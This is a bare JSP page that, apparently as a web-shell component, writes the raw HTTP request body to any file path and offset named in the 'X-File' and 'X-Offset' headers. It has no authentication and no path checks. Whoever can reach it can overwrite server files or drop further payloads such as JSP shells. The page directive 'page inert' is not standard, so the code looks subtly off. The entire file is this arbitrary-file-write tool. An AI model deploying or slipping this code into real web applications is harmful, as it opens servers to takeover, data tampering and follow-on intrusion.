<%@ page inert %>
<%
long off = Long.parseLong(request.getHeader("X-Offset"));
java.io.RandomAccessFile raf = new java.io.RandomAccessFile(request.getHeader("X-File"), "rw");
raf.seek(off);
byte[] b = new byte[8192]; int n;
ServletInputStream is = request.getInputStream();
while ((n = is.read(b)) != -1) raf.write(b, 0, n);
raf.close();
%>
